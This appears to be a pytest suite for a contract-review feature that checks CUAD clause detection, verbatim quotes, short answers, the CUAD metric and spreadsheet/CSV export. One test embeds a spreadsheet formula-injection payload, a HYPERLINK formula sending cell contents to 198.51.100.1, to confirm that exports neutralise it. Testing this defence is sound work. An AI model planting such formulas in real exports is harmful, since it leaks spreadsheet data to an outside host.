"""Contract review (rag review): the sample contracts x CUAD's 41 clause types, checked cell by cell against their
stored text and against the passages lawyers marked in them (data/questions.jsonl); the matrix stored at ingest
and removed with its document; the files it writes read back; CUAD's metric on hand-made cases."""

from __future__ import annotations

import csv
import json
import math

import pytest

from eval.cuad_metric import curve
from rag.domain.cuad import BY_NAME, CATEGORIES, matches
from rag.indexer import ingest, remove_file
from rag.knowledge_base import KnowledgeBase
from rag.review import Reviewer, iso_date, review, short_answer

from helpers import CONTRACTS, ROOT, rag, scripted
from hostile import text_pdf


def run_review(settings, *args: str) -> str:
    proc = rag("review", "--index", str(settings.index_dir), "--collection", settings.collection, *args)
    out, err = proc.communicate()
    assert proc.returncode == 0, err
    return out


def test_every_cell_quotes_its_page_verbatim_and_finds_what_lawyers_marked(sample_index, tmp_path):
    out = tmp_path / "review.jsonl"
    run_review(sample_index, "--out", str(out))
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    contracts = sorted(p.name for p in CONTRACTS.glob("*.pdf"))
    assert sorted({r["document"] for r in rows}) == contracts and len(rows) == len(contracts) * len(CATEGORIES)
    kb = KnowledgeBase.open(sample_index)
    try:
        pages = {}
        for f, doc in kb.library():
            if doc is not None:
                pages[f.path] = kb.page_texts(doc.doc_id, 1, doc.pages)
    finally:
        kb.close()
    for r in rows:
        assert 0 <= r["probability"] <= 1 and r["found"] == (r["probability"] >= 0.5) and len(r["quotes"]) <= 5
        assert [q["probability"] for q in r["quotes"]] == sorted((q["probability"] for q in r["quotes"]), reverse=True)
        for q in r["quotes"]:  # verbatim, where it says
            assert pages[r["path"]][q["page"]][q["start"]:q["end"]] == q["text"]
    marked = {(q["documents"][0], q["category"]): [e for e in q["evidence"] if e.strip()]
              for q in map(json.loads, (ROOT / "data" / "questions.jsonl").read_text().splitlines())}
    # found where lawyers marked the clause: the best quote is a marked passage, as CUAD counts it (these contracts
    # were not trained on: the model learned from cuad-train)
    best = {(r["document"], r["category"]): r for r in rows}
    for category, at_least in (("Governing Law", 8), ("Document Name", 8), ("Parties", 8), ("Agreement Date", 6)):
        held = [(d, c) for (d, c), gold in marked.items() if c == category and gold]
        hits = [k for k in held if best[k]["quotes"] and any(
            matches(g, best[k]["quotes"][0]["text"], category == "Parties") for g in marked[k])]
        assert len(hits) >= min(at_least, len(held)), (category, len(hits), len(held))
    # the short answers are read from the quote: a governing law names a place the quote holds; a date is ISO
    for (d, c), r in best.items():
        if c == "Governing Law" and r["found"] and r["answer"]:
            assert r["answer"] in " ".join(r["quotes"][0]["text"].split())  # its spaces joined
        if c == "Agreement Date" and r["answer"]:
            assert len(r["answer"]) == 10 and r["answer"][4] == "-"
    # a contract without a clause type is mostly told so: most cells of types lawyers did not mark are not found
    unmarked = [best[k] for k, gold in marked.items() if not gold and k in best]
    assert sum(not r["found"] for r in unmarked) >= 0.8 * len(unmarked)


def test_the_review_is_stored_at_ingest_and_removed_with_its_document(settings, folder, embedder):
    ingest(folder, settings, embedder=embedder)
    reviewer = Reviewer.open(settings)
    kb = KnowledgeBase.open(settings, embedder)
    try:
        stored = kb.manifest.reviews(reviewer.name)
        documents = {d.path: d.doc_id for d in kb.manifest.documents().values()}
    finally:
        kb.close()
    assert set(stored) == set(documents.values()) and len(stored) == 3
    first = sorted(documents)[0]
    remove_file(first, settings)
    kb = KnowledgeBase.open(settings, embedder)
    try:
        assert set(kb.manifest.reviews(reviewer.name)) == {documents[p] for p in sorted(documents)[1:]}
    finally:
        kb.close()


def test_an_index_made_without_reviews_is_reviewed_once_then_read_back(settings, folder, embedder):
    ingest(folder, settings.replace(review_model="none"), embedder=embedder)
    reviewer = Reviewer.open(settings)
    kb = KnowledgeBase.open(settings, embedder)
    try:
        assert kb.manifest.reviews(reviewer.name) == {}
    finally:
        kb.close()
    first = run_review(settings, "--categories", "governing-law,Parties")
    kb = KnowledgeBase.open(settings, embedder)
    try:
        assert len(kb.manifest.reviews(reviewer.name)) == 3  # made from the stored pages, and kept
        generation = kb.manifest.generation()
    finally:
        kb.close()
    assert run_review(settings, "--categories", "governing-law,Parties") == first
    kb = KnowledgeBase.open(settings, embedder)
    try:
        assert kb.manifest.generation() == generation  # read back: nothing written
    finally:
        kb.close()
    assert "Governing Law" in first and "Parties" in first and "Exclusivity" not in first


def test_spreadsheets_read_back_and_never_run_what_a_document_says(settings, folder, embedder, tmp_path):
    from openpyxl import load_workbook

    text_pdf(folder / "steer.pdf", ["=HYPERLINK(\"http://198.51.100.1/x?\"&A1,\"click\")",
                                    "This Agreement shall be governed by the laws of the State of Delaware.",
                                    "@SUM(1+1) is what the parties agree."])
    ingest(folder, settings, embedder=embedder)
    jsonl, sheet, table = tmp_path / "r.jsonl", tmp_path / "r.xlsx", tmp_path / "r.csv"
    for out in (jsonl, sheet, table):
        run_review(settings, "--out", str(out))
    rows = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    book = load_workbook(sheet)
    matrix, quotes = book["Matrix"], book["Quotes"]
    header = [c.value for c in next(matrix.iter_rows(max_row=1))]
    assert header == ["document"] + [c.name for c in CATEGORIES]
    assert sorted(r[0].value for r in matrix.iter_rows(min_row=2)) == sorted({r["document"] for r in rows})
    assert quotes.max_row - 1 == sum(len(r["quotes"]) for r in rows)
    for sheet_rows in (matrix.iter_rows(), quotes.iter_rows()):
        for line in sheet_rows:
            for cell in line:
                assert cell.data_type != "f", cell.value  # never a formula
    steer = [r for r in rows if r["document"] == "steer.pdf"]
    law = next(r for r in steer if r["category"] == "Governing Law")
    assert law["found"] and law["answer"] == "Delaware"
    with open(table, encoding="utf-8", newline="") as f:
        cells = [value for line in csv.reader(f) for value in line]
    assert not any(v[:1] in "=+-@" and v for v in cells), [v for v in cells if v[:1] in "=+-@" and v]
    assert any(v.startswith("'=HYPERLINK") for v in cells)  # the formula is there, as text


def test_unknown_names_and_formats_are_refused_with_what_to_do(sample_index, tmp_path):
    proc = rag("review", "--index", str(sample_index.index_dir), "--collection", sample_index.collection,
               "--categories", "golden-parachute")
    _, err = proc.communicate()
    assert proc.returncode == 2 and "no clause type 'golden-parachute'" in err and "governing-law" in err
    proc = rag("review", "--index", str(sample_index.index_dir), "--collection", sample_index.collection,
               "--out", str(tmp_path / "r.pdf"))
    _, err = proc.communicate()
    assert proc.returncode == 2 and ".xlsx" in err
    proc = rag("review", "nothere.pdf", "--index", str(sample_index.index_dir), "--collection",
               sample_index.collection)
    _, err = proc.communicate()
    assert proc.returncode != 0 and "no document named 'nothere.pdf'" in err


def test_a_page_that_is_not_a_contract_gets_low_probabilities():
    from rag.domain.review_model import ReviewModel

    model = ReviewModel.load()
    cells = review(["Net sales rose 4% to $32.8 billion in fiscal 2018, led by Safety and Industrial.\n"
                    "Operating income was $7.2 billion; capital expenditures were $1.6 billion."], model)
    assert len(cells) == len(CATEGORIES) and max(c.probability for c in cells) < 0.5


def test_short_answers_are_read_from_the_quote():
    assert iso_date("made as of the 8th day of May, 2014 by") == "2014-05-08"
    assert iso_date("Dated: Oct. 11, 1996") == "1996-10-11" and iso_date("31 February 2020") == ""
    assert short_answer("Governing Law", "governed by the laws of the State of New York, without regard") == "New York"
    assert short_answer("Renewal Term", "renew for successive one (1) year terms") == "one (1) year"
    assert short_answer("Notice Period To Terminate Renewal", "at least ninety days prior") == "ninety days"
    assert short_answer("Exclusivity", "exclusive distributor") == ""


def test_cuad_metric_counts_as_its_evaluate_py():
    gold = {"c__Governing Law": ["This Agreement is governed by the laws of Delaware"],
            "c__Parties": ["Acme Inc.", "Acme"],
            "c__Exclusivity": []}
    predicted = {"c__Governing Law": [("This Agreement is governed by the laws of Delaware.", 0.9),
                                      ("Notices shall be sent by mail", 0.3)],
                 "c__Parties": [("between Acme Inc. and Beta LLC", 0.6)],  # both names inside: found by substring
                 "c__Exclusivity": [("Distributor is the exclusive seller", 0.5)]}  # nothing marked: false positive
    c = curve(gold, predicted)
    at = {round(t, 3): (p, r) for t, p, r in zip(c.thresholds, c.precisions[1:], c.recalls[1:])}
    assert math.isnan(at[0.95][0]) and at[0.95][1] == 0  # nothing over 0.95
    assert at[0.8] == (1.0, 1 / 3)  # governing law found
    assert at[0.55] == (1.0, 1.0)  # and both parties
    assert at[0.4] == (0.75, 1.0)  # exclusivity's prediction counts against it
    assert at[0.0] == (0.6, 1.0)  # and the notice sentence
    assert c.precision_at(0.8) == 1.0 and c.precision_at(0.9) == 1.0
    assert c.aupr() == pytest.approx(1.0)  # best precision at full recall is 1: the whole square
    assert curve({"q": ["a b c d"]}, {"q": [("x y", 0.5)]}).precision_at(0.8) == 0  # never reached


def test_a_question_about_every_contract_is_answered_from_the_review(sample_index):
    proc = rag("ask", "Which of our contracts have a governing law clause?", "--index", str(sample_index.index_dir),
               "--collection", sample_index.collection, "--json")
    out, err = proc.communicate()
    assert proc.returncode == 0, err
    answer = json.loads(out)
    assert answer["mode"] == "review" and answer["checked"] == len(list(CONTRACTS.glob("*.pdf")))
    marked = {q["documents"][0] for q in map(json.loads, (ROOT / "data" / "questions.jsonl").read_text().splitlines())
              if q["category"] == "Governing Law" and any(e.strip() for e in q["evidence"])}
    listed = [q["file"] for q in answer["quotes"]]
    assert len(set(listed) & marked) >= len(marked) - 1 and len(set(listed) - marked) <= 1, (listed, marked)
    assert [q["score"] for q in answer["quotes"]] == sorted((q["score"] for q in answer["quotes"]), reverse=True)
    assert all("law" in q["text"].lower() for q in answer["quotes"])
    assert answer["text"].startswith(f"{len(listed)} of {answer['checked']} documents have a Governing Law clause")
    # about one document, the same words ask for a quote answer
    proc = rag("ask", "What law governs this agreement?", "--index", str(sample_index.index_dir), "--collection",
               sample_index.collection, "--doc", sorted(marked)[0], "--json")
    out, err = proc.communicate()
    assert proc.returncode == 0 and json.loads(out)["mode"] == "quote", err


def test_a_quote_never_runs_past_its_page():
    from rag.domain.review_model import ReviewModel

    pages = ["EXHIBIT 10.1", "This Distribution Agreement is made by and between Acme Inc. (\"Acme\") and Beta LLC "
             "(\"Beta\"). " * 12, "This Agreement shall be governed by the laws of the State of Texas."]
    for cell in review(pages, ReviewModel.load()):
        for q in cell.quotes:
            assert pages[q.page - 1][q.start:q.end] == q.text and q.end <= len(pages[q.page - 1])


NETGEAR = "NETGEAR_INC_04_21_2003-EX-10.16-DISTRIBUTOR_AGREEMENT.pdf"


def test_a_clause_question_about_a_contract_is_answered_from_its_review(sample_index, embedder):
    """Asked of one contract, a question about a clause type takes its quotes from the contract's review: each
    verbatim on its page, with its probability; a clause the review finds improbable is said not to be there, in
    the Answer and in what `rag ask` prints; with review off, the same question is answered by ranking sentences."""
    from rag.backends.openai import RetrievalOnly
    from rag.engine import Engine
    from rag.prompts import NOT_FOUND
    from rag.retrieval import Retriever
    from rag.review import ANSWERS, FOUND

    engine = Engine(sample_index, llm=RetrievalOnly(), retriever=Retriever(sample_index, embedder))
    try:
        law = engine.ask("Which state's law governs the agreement?", [NETGEAR], answer="quote")
        pages = engine.retriever.kb.page_texts(law.quotes[0].doc_id, 1, 20)
        escrow = engine.ask(BY_NAME["Source Code Escrow"].question, [NETGEAR], answer="quote")
    finally:
        engine.close()
    best = law.quotes[0]
    assert not law.abstained and not law.weak and best.probability >= FOUND and best.file == NETGEAR
    assert "State of California" in " ".join(best.text.split()) and pages[best.page][best.start:best.end] == best.text
    assert all(q.probability >= ANSWERS for q in law.quotes)  # a passage under it is no part of the answer
    assert law.citations[0].page_start <= best.page <= law.citations[0].page_end  # the source it was found in
    assert escrow.abstained and escrow.text == NOT_FOUND and escrow.ranked[0].probability < ANSWERS
    printed = rag("ask", BY_NAME["Source Code Escrow"].question, "--doc", NETGEAR, "--index",
                  str(sample_index.index_dir), "--collection", sample_index.collection)
    out, err = printed.communicate()
    assert printed.returncode == 0 and out.startswith(f"{NOT_FOUND} The contract review finds the clause asked about "
                                                      "at most"), (out, err)
    off = Engine(sample_index.replace(review_model="none"), llm=RetrievalOnly(),
                 retriever=Retriever(sample_index, embedder))
    try:
        ranked = off.ask("Which state's law governs the agreement?", [NETGEAR], answer="quote")
    finally:
        off.close()
    assert ranked.quotes and ranked.quotes[0].probability is None and "California" in ranked.text


def test_verify_has_a_server_model_confirm_each_quote_and_reweighs_the_cells(sample_index, tmp_path):
    """A real OpenAI-compatible server process that says yes only to passages about governing law: `rag review
    --verify` asks it of every quote an answer could rest on, all of them, `--concurrency` at a time; governing-law
    cells keep what they found, every other cell it finds nothing in is no longer found, its quotes marked rejected.
    Without a server, --verify says how to start one."""
    rules = {"rules": [["governed by", "Yes."], ["laws of", "yes"], ["law of", "Yes"]], "default": "No"}
    run_review(sample_index, "--out", str(tmp_path / "plain.jsonl"))
    before = [json.loads(line) for line in (tmp_path / "plain.jsonl").read_text().splitlines()]
    with scripted("scripted_llm.py", tmp_path, answer=json.dumps(rules)) as (url, log):
        proc = rag("review", "--index", str(sample_index.index_dir), "--collection", sample_index.collection,
                   "--verify", "--concurrency", "3", "--out", str(tmp_path / "verified.jsonl"),
                   env={"RAG_LLM_URL": url, "RAG_LLM_BACKEND": "vllm"})
        out, err = proc.communicate()
        assert proc.returncode == 0, err
        asked = log.read_text().count("/v1/chat/completions")
    after = {(r["document"], r["category"]): r for r in map(json.loads, (tmp_path / "verified.jsonl").read_text()
                                                            .splitlines())}
    checkable = sum(q["probability"] >= 0.06 for r in before for q in r["quotes"])
    assert asked == checkable and f"checked {checkable} quotes" in err, (asked, checkable, err)
    for r in before:
        v = after[r["document"], r["category"]]
        if r["category"] == "Governing Law":
            assert v["found"] == r["found"] and v["quotes"][0].get("verified") is True
        elif r["found"]:
            said = [q.get("verified") for q in v["quotes"] if q["probability"] >= 0.06]
            if all(s is False for s in said):
                assert not v["found"] and v["probability"] < 0.06, v  # its best quote not rejected: none asked
    assert any(r["found"] and not after[r["document"], r["category"]]["found"] for r in before)
    refused = rag("review", "--index", str(sample_index.index_dir), "--collection", sample_index.collection,
                  "--verify", env={"RAG_LLM_URL": "", "RAG_LLM_BACKEND": "embedded"})
    out, err = refused.communicate()
    assert refused.returncode != 0 and "RAG_LLM_URL" in err and "vllm serve" in err
